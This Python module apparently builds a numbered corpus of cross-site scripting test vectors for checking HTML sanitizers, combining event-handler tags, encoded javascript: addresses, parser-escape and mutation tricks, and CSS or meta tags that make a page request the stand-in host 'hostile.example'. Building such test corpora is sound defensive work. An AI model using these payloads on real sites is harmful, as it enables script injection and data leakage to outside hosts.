"""Texts that run a script, or ask another host, wherever one is taken for HTML, an address, a style or data.

None is copied: they are made from contexts (which element, attribute or syntax), encodings (how the call or
the scheme is written) and tricks (what parts the words, which quotes, which case, what is left unclosed).
Each calls `hit` with its number or asks `OUTSIDE` for it, so that what happened names the vector.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from functools import cache
from itertools import cycle, islice

OUTSIDE = "hostile.example"
"""A host to which no page may speak."""

EVALUATED = "1337"
"""What a template engine that reads authors' texts would make of seven times 191."""


@dataclass(frozen=True, slots=True)
class Vector:
    """A text and what it must stand in to run.

    HTML (`html`), an address, an attribute in quotes (`quoted`, `apostrophes`) or in none (`bare`), JSON
    within a script (`data`), a style.
    """

    number: int
    context: str
    text: str


_CALLS = (
    "hit({n})",
    "&#104;it({n})",
    "&#x0000068;it&lpar;{n}&rpar;",
    "\\u0068it({n})",
    "hit`{n}`",
    "top['hi'+'t']?.({n})??hit({n})",
    "setTimeout('hit({n})')",
    "h&#105;t&#40;{n}&#41",
)
_SHAPES = (" ", "/", "\n", "\t", "  \n ", "/\t/")
_QUOTES = ("", '"', "'")

# Elements of which one attribute runs by itself, or when a visitor points at, clicks or reaches them.
_ELEMENTS = (
    ("img", "src=x", "onerror", ""),
    ("img", "srcset=x", "onerror", ""),
    ("svg", "", "onload", "</svg>"),
    ("svg", "", "onclick", "</svg>"),
    ("details", "open", "ontoggle", "<summary>x</summary></details>"),
    ("input", "autofocus", "onfocus", ""),
    ("input", "type=image src=x", "onerror", ""),
    ("select", "autofocus", "onfocus", "</select>"),
    ("textarea", "autofocus", "onfocus", "</textarea>"),
    ("video", "src=x", "onerror", "</video>"),
    ("audio", "src=x", "onerror", "</audio>"),
    ("iframe", "src=about:blank", "onload", "</iframe>"),
    ("style", "", "onload", "p{}</style>"),
    ("object", "data=x", "onerror", "</object>"),
    ("script", "src=x", "onerror", "</script>"),
    ("link", "rel=stylesheet href=x", "onerror", ""),
    ("a", "tabindex=1", "onfocus", "x</a>"),
    ("a", "href=#", "onclick", "x</a>"),
    ("p", "", "onmouseover", "x</p>"),
    ("div", "contenteditable", "onpointerdown", "x</div>"),
    ("button", "", "onclick", "x</button>"),
    ("math", "", "onclick", "<mi>x</mi></math>"),
    ("own-name", "tabindex=1", "onfocus", "x</own-name>"),
    ("table", "", "onmouseover", "<tr><td>x</table>"),
    ("dialog", "open", "onclick", "x</dialog>"),
    ("form", "", "onsubmit", "<button>x</button></form>"),
)
_OF_EACH = 6

_SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "&#106;avascript:",
    "&#x6A;&#x61;vascript:",
    "javascript&colon;",
    "java\tscript:",
    "java&Tab;script:",
    "java&NewLine;script:",
    "&#1;javascript:",
    " javascript:",
    "&#0000106;avascript:",
    "javascript&#58;",
)
_CODES = ("hit({n})", "%68it({n})", "//%0Ahit({n})", "void(hit({n}))", "`${{hit({n})}}`", "'<b>';hit({n})")
_FRAMES = ("data:text/html,<script>hit({n})</script>", "data:text/html;base64,{packed}")

# Elements of which an address runs: by itself or by a click.
_HOLDERS = (
    '<a href="{at}">x</a>',
    "<a href='{at}'>x</a>",
    '<iframe src="{at}"></iframe>',
    '<form action="{at}"><button>x</button></form>',
    '<form><button formaction="{at}">x</button></form>',
    '<form><input type=submit formaction="{at}" value=x></form>',
    '<svg><a xlink:href="{at}"><text y=9>x</text></a></svg>',
    '<svg><a href="{at}"><rect width=9 height=9></rect></a></svg>',
    '<math><a xlink:href="{at}">x</a></math><a href="{at}">x</a>',
    '<map name=m><area href="{at}" shape=default></map>',
    '<base href="{at}"><a href="{at}">x</a>',
    '<embed src="{at}">',
)

_CALL = "<img src=x onerror=hit({n})>"
# What leaves the place in which a text stands, and then runs.
_ESCAPES = (
    "<!-->{call}-->",
    "<!--->{call}-->",
    "<!-- --!>{call}",
    "<!>{call}",
    "<![CDATA[>{call}]]>",
    "<![CDATA[><p>]]>{call}",
    "<?x ?>{call}",
    "<?php >{call} ?>",
    "</title>{call}",
    "</textarea>{call}",
    "</style>{call}",
    "</script>{call}",
    "</template>{call}",
    "</noscript>{call}",
    "<title><p title='</title>{call}'>",
    "<textarea><p title='</textarea>{call}'>",
    "<xmp><p title='</xmp>{call}'></xmp>",
    "<noembed><p title='</noembed>{call}'></noembed>",
    "<noframes><p title='</noframes>{call}'></noframes>",
    "<style><p title='</style>{call}'></style>",
    "<iframe><p title='</iframe>{call}'></iframe>",
    "<svg><style>{call}</style></svg>",
    "<svg></p><style><a title='</style>{call}'>",
    "<svg><desc>{call}</desc></svg>",
    "<svg><foreignObject>{call}</foreignObject></svg>",
    "<svg><title>{call}</title></svg>",
    "<math><mtext>{call}</mtext></math>",
    "<math><annotation-xml encoding='text/html'>{call}</annotation-xml></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{shy}'>{call}",
    "<form><math><mtext></form>{call}",
    "<table><caption><svg><foreignObject></table>{call}",
    "<select><option>x</select>{call}",
    "<div><template shadowrootmode=open>{call}</template></div>{call}",
    '<p title="`">{call}`"\'>',
    "<a href='x>'>{call}",
    "<p <p>{call}",
    "<<p>{call}",
    "<p/<p>{call}",
    "<b><i><b><i></b>{call}</i>",
    "<li><ol><li>{call}",
)
_SCRIPTS = (
    "<script>hit({n})</script>",
    "<SCRIPT>hit({n})</SCRIPT >",
    "<script\n>hit({n})</script\n>",
    "<script/x>hit({n})</script/x>",
    "<script type=module>hit({n})</script>",
    "<script type=text/javascript>hit({n})//</script>",
    "<script><!--\nhit({n})\n--></script>",
    "<script>/*<!--*/hit({n})</script>",
    "<scr<script>ipt>hit({n})</script><script>hit({n})</script>",
    "<svg><script>hit({n})</script></svg>",
    "<svg><script>&#104;it({n})</script></svg>",
    "<svg><script href='data:,hit({n})'></script></svg>",
    "<script src='data:,hit({n})'></script>",
    "<iframe srcdoc='<script>hit({n})</script>'></iframe>",
    "<iframe srcdoc='&lt;script&gt;hit({n})&lt;/script&gt;'></iframe>",
    '<iframe srcdoc="&lt;img src=x onerror=hit({n})&gt;">',
    "<svg><animate onbegin=hit({n}) attributeName=x dur=1s></svg>",
    "<svg><set onbegin=hit({n}) attributeName=x></svg>",
    "<svg><animateTransform onbegin=hit({n}) attributeName=transform></svg>",
    "<svg><animateMotion onbegin=hit({n})></svg>",
    "<video><source onerror=hit({n})></video>",
    "<body onload=hit({n})>",
    "<body onpageshow=hit({n})>",
    "<audio src=x onloadstart=hit({n})></audio>",
)
# Requests that a page makes by itself. `//` is whatever the page came by.
_REQUESTS = (
    "<img src=//{host}/{n}>",
    "<img srcset='//{host}/{n} 2x'>",
    "<picture><source srcset=//{host}/{n}><img></picture>",
    "<video poster=//{host}/{n}></video>",
    "<video src=//{host}/{n} preload=auto></video>",
    "<audio src=//{host}/{n} preload=auto></audio>",
    "<video><track default src=//{host}/{n} kind=captions></video><img src=//{host}/{n}>",
    "<iframe src=//{host}/{n}></iframe>",
    "<embed src=//{host}/{n}>",
    "<object data=//{host}/{n}></object>",
    "<input type=image src=//{host}/{n}>",
    "<link rel=stylesheet href=//{host}/{n}>",
    "<link rel=icon href=//{host}/{n}><img src=//{host}/{n}>",
    "<script src=//{host}/{n}></script>",
    "<style>@import '//{host}/{n}';</style>",
    "<style>*{{background:url(//{host}/{n})}}</style>",
    "<p style='background:url(//{host}/{n})'>x</p>",
    '<p style="background:u\\rl(//{host}/{n})">x</p>',
    "<p style='list-style:url(//{host}/{n});display:list-item'>x</p>",
    "<p style='border-image:url(//{host}/{n}) 9'>x</p>",
    "<table background=//{host}/{n}><tr><td>x</table>",
    "<body background=//{host}/{n}>",
    "<svg><image href=//{host}/{n} width=9 height=9></image></svg>",
    "<svg><image xlink:href=//{host}/{n} width=9 height=9></image></svg>",
    "<svg><feImage href=//{host}/{n} /></svg><img src=//{host}/{n}>",
    "<base href=//{host}/{n}/><img src=x>",
    "<meta http-equiv=refresh content='0;url=//{host}/{n}'>",
    "<META HTTP-EQUIV=Refresh CONTENT=\"0; URL='//{host}/{n}'\">",
    "<img src='http:{host}/{n}'><img src=//{host}/{n}>",
    "<img src='\\\\{host}/{n}'>",
    "<img src='/\t/{host}/{n}'>",
    "<img/src='h\nttp://{host}/{n}'>",
)
_QUOTED = (
    "{q}>{call}",
    "{q}/>{call}<p x={q}",
    "{q} onmouseover={q}hit({n})",
    "{q} onclick=hit({n}) x={q}",
    "{q}autofocus tabindex=1 onfocus={q}hit({n})",
    "{q}\nonmouseover\n=\nhit({n}) {q}",
    "{q} style={q}background:url(//{host}/{n})",
    "{q}></p><script>hit({n})</script>",
)
_BARE = ("x onmouseover=hit({n})", "x\tautofocus\ttabindex=1\tonfocus=hit({n})", "x>{call}")
_DATA = (
    "</script>{call}",
    "</ScRiPt\n>{call}",
    "</script/x>{call}",
    "</script ><svg onload=hit({n})>",
    "<!--<script></script>-->{call}</script>{call}",
    '"}}</script><script>hit({n})</script>',
    "\\u003c/script>{call}</script>{call}",
    "</script\t><script>hit({n})</script>",
)
_STYLES = (
    "</style>{call}",
    "</STYLE\n>{call}",
    "}}*{{background:url(//{host}/{n})}}",
    "}}@import '//{host}/x';*{{background:url('//{host}/{n}')}}",
    "/**/}}html{{background:url(//{host}/{n})}}",
    ";}}body{{cursor:url(//{host}/{n}),auto;list-style:url(//{host}/{n});display:list-item}}",
)


@cache
def vectors() -> tuple[Vector, ...]:
    """All of them, numbered from 1."""
    made = ((context, text) for part in (_handlers, _addresses, _holders, _fixed) for context, text in part())
    return tuple(
        Vector(number, context, _filled(text, number)) for number, (context, text) in enumerate(made, start=1)
    )


def _handlers() -> Iterator[tuple[str, str]]:
    """Elements with a handler: which call, which spaces, which quotes and which case go round in turn."""
    calls, shapes, quotes, cases = (
        cycle(_CALLS),
        cycle(_SHAPES),
        cycle(_QUOTES),
        cycle((str.lower, str.upper, _mixed)),
    )
    for tag, rest, handler, end in _ELEMENTS:
        for _ in range(_OF_EACH):
            call, gap, quote, case = next(calls), next(shapes), next(quotes), next(cases)
            quote = quote or ('"' if "'" in call or '"' in call or " " in call else "")
            quote = '"' if quote == "'" and "'" in call else quote
            own = f"{rest}{gap if gap.strip() != '/' else ' '}" if rest else ""
            yield "html", f"<{case(tag)}{gap}{own}{case(handler)}={quote}{call}{quote}>{end}"
        next(calls), next(quotes)


def _mixed(word: str) -> str:
    return "".join(letter.upper() if index % 2 else letter for index, letter in enumerate(word))


def _addresses() -> Iterator[tuple[str, str]]:
    """Addresses alone, for the places where a link leads."""
    for index, scheme in enumerate(_SCHEMES):
        for code in islice(cycle(_CODES), index, index + 4):
            yield "address", scheme + code


def _holders() -> Iterator[tuple[str, str]]:
    """The same within the elements that follow them."""
    codes = cycle(_CODES[:4])
    for index, holder in enumerate(_HOLDERS):
        for scheme in islice(cycle(_SCHEMES), index, index + 5):
            if "<embed" not in holder:
                yield "html", holder.replace("{at}", scheme + next(codes))
        if "iframe" in holder or "embed" in holder:
            yield from (("html", holder.replace("{at}", frame)) for frame in _FRAMES)


def _fixed() -> Iterator[tuple[str, str]]:
    yield from (("html", text.replace("{call}", _CALL)) for text in (*_ESCAPES, *_SCRIPTS, *_REQUESTS))
    for quote, context in (('"', "quoted"), ("'", "apostrophes")):
        yield from ((context, text.replace("{q}", quote).replace("{call}", _CALL)) for text in _QUOTED)
    yield from (("bare", text.replace("{call}", _CALL)) for text in _BARE)
    yield from (("data", text.replace("{call}", _CALL)) for text in _DATA)
    yield from (("style", text.replace("{call}", _CALL)) for text in _STYLES)


def _filled(text: str, number: int) -> str:
    packed = _packed(f"<script>hit({number})</script>")
    doubled = text.replace("{{", "\0").replace("}}", "\1")
    values = {"n": str(number), "host": OUTSIDE, "packed": packed, "shy": "&lt;img src=x&gt;"}
    for name, value in values.items():
        doubled = doubled.replace(f"{{{name}}}", value)
    return doubled.replace("\0", "{").replace("\1", "}")


def _packed(text: str) -> str:
    from base64 import b64encode

    return b64encode(text.encode()).decode()
